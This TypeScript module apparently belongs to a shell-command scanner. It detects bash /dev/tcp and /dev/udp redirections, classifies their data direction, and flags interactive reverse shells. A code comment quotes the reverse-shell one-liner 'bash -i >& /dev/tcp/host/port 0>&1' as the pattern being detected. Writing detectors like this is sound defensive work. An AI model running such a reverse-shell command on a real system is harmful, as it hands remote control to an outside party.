/** Bash, ksh and gawk open a socket where a redirection names `/dev/tcp/host/port`; no other program appears. */
import { portOf, targetOf } from './target.ts';
import type { TransferReading } from './transfer.ts';

const DEVICE = /\/dev\/(tcp|udp)\/([\w.:$-]{1,255})\/([\w$]{1,32})/g;
const LONGEST = 65_536;

/**
 * What a shell text sends to a network device. Only a redirection counts: `> /dev/tcp/...` sends, `<` fetches, `<>` and
 * `exec` on a descriptor do both. A text that merely names the path in quotes of another command is not looked at.
 */
export function readDeviceRedirect(text: string): TransferReading | undefined {
  const found: TransferReading[] = [];
  const read = text.slice(0, LONGEST);
  const quoted = quotedPlaces(read);
  for (const match of read.matchAll(DEVICE)) {
    const sign = redirectBefore(read, match.index, quoted);
    if (sign === undefined) continue;
    const [whole, protocol, host, port] = match;
    // `bash -i >& /dev/tcp/host/port 0>&1`: what comes back is the input.
    const joined = /^["']?\s{0,8}(?:0|\d?)[<>]&\s?\d/.test(read.slice(match.index + whole.length));
    found.push({
      tool: 'shell-device',
      direction: joined || sign === '<>' ? 'both' : sign === '>' ? 'upload' : 'download',
      carries: sign === '<' ? 'none' : 'command-output',
      // A variable is no name.
      target: targetOf({
        scheme: protocol,
        host: host?.includes('$') === true ? undefined : host,
        port: portOf(port),
      }),
      encryptsChannel: false,
      certainty: 0.9,
      reason: `the shell ${sign === '<' ? 'reads from' : 'writes to'} a network device (/dev/${protocol ?? ''})`,
    });
  }
  const order = ['both', 'upload', 'download'];
  return found.sort((a, b) => order.indexOf(a.direction) - order.indexOf(b.direction))[0];
}

/** The redirection operator, outside quotes, that this word belongs to. */
function redirectBefore(text: string, at: number, quoted: Uint8Array): '<' | '>' | '<>' | undefined {
  let end = at;
  while (end > 0 && at - end < 8 && /[\s"']/.test(text.charAt(end - 1))) end--;
  if (end > 0 && quoted[end - 1] === 1) return undefined;
  const sign = text.slice(Math.max(0, end - 2), end);
  if (sign === '<>') return '<>';
  if (sign.endsWith('>') || sign === '>&') return '>';
  return sign.endsWith('<') && sign !== '<<' ? '<' : undefined;
}

/** One for every character that stands in quotes. */
function quotedPlaces(text: string): Uint8Array {
  const places = new Uint8Array(text.length);
  let open = '';
  for (let at = 0; at < text.length; at++) {
    const character = text.charAt(at);
    if (open !== '') {
      places[at] = 1;
      if (character === '\\' && open === '"') at++;
      else if (character === open) open = '';
    } else if (character === '\\') at++;
    else if (character === '"' || character === "'") open = character;
  }
  return places;
}
